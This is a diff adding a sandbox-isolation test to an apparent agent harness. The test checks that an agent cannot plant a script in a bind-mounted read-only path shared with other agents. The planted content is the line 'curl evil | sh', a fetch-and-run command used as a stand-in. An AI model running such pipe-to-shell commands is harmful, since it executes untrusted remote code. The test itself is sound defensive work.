@@ -162,3 +162,33 @@ def test_a_servers_writable_path_may_not_lie_in_an_entry(settings: Any, tmp_path
     )
     # read-only, it is only shown twice
     assert sandbox_servers.server_path_problem(f"{tmp_path / 'opt' / 'tools' / 'bin'}:ro") is None
+
+
+def test_a_workspace_bound_on_an_entry_plants_nothing_for_other_agents(
+    settings: Any, tmp_path: Path
+) -> None:
+    # The entry is a mount point an admin bound a project on (mount --bind), the project
+    # registered as alice's workspace: the paths differ, the directory is the same.
+    _require_root()
+    require_bwrap()
+    settings.HARNESS_SANDBOX = "bwrap"
+    settings.HARNESS_SANDBOX_NETWORK = False
+    owner = sandbox._owner()
+    if owner is None:
+        pytest.skip("no sandbox user here")
+    os.chmod(tmp_path, 0o755)  # noqa: S103 - the sandbox user passes through
+    alice, bob, shown = tmp_path / "alice", tmp_path / "bob", tmp_path / "opt" / "shown"
+    for path in (alice, bob, shown):
+        path.mkdir(parents=True)
+    for path in (alice, bob):
+        os.chown(path, *owner)
+    if subprocess.run(["mount", "--bind", str(alice), str(shown)], check=False).returncode:
+        pytest.skip("cannot bind a directory here")
+    try:
+        settings.HARNESS_SANDBOX_READ_ONLY = [str(shown)]
+        planted = _sh(alice, "echo 'curl evil | sh' > tool.sh && echo planted")
+        assert planted.startswith(f"refused: {alice}, where this program may write, lies "), planted
+        assert f"HARNESS_SANDBOX_READ_ONLY entry {shown}, which every" in planted
+        assert "curl evil" not in _sh(bob, f"cat {shown}/tool.sh")
+    finally:
+        subprocess.run(["umount", str(shown)], check=True)
